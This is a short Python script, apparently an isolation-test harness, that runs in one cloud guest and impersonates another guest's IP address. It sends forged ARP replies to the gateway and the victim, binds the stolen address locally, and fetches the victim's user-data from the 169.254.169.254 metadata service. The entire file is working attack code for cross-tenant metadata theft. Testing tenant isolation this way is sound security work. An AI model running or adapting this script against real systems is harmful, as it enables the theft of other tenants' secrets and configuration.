"""Runs in a guest: takes the address of another guest and asks for its user-data.

attack.py ADDRESS: prints the result as one line of JSON.
"""

import json
import socket
import struct
import subprocess
import sys
import threading

address = sys.argv[1]
metadata = "169.254.169.254"

route = json.loads(subprocess.check_output(["ip", "-j", "route", "get", metadata]))[0]
device, gateway = route["dev"], route["gateway"]
with open(f"/sys/class/net/{device}/address") as file:
    own_mac = bytes.fromhex(file.read().strip().replace(":", ""))

done = threading.Event()


def claim():
    """Announces the address with this machine's MAC in ARP replies (RFC 826) until it is done."""
    broadcast = b"\xff" * 6
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((device, 0))
    while not done.wait(0.3):
        for target in (gateway, address):
            reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own_mac + socket.inet_aton(address)
            reply += broadcast + socket.inet_aton(target)
            wire.send(broadcast + own_mac + b"\x08\x06" + reply)


def ask(path):
    command = ["curl", "-s", "--interface", address, "--max-time", "3", "-w", "\n%{http_code}"]
    result = subprocess.run(command + [f"http://{metadata}/{path}"], capture_output=True, text=True)
    body, _, status = result.stdout.rpartition("\n")
    return int(status), body


subprocess.check_call(["ip", "address", "add", f"{address}/32", "dev", device])
thread = threading.Thread(target=claim)
thread.start()
tries = []
try:
    for _ in range(10):
        status, body = ask("latest/user-data")
        tries.append(status)
        if status:
            break
finally:
    done.set()
    thread.join()
    subprocess.check_call(["ip", "address", "delete", f"{address}/32", "dev", device])
print(json.dumps({"tries": tries, "status": status, "body": body}))
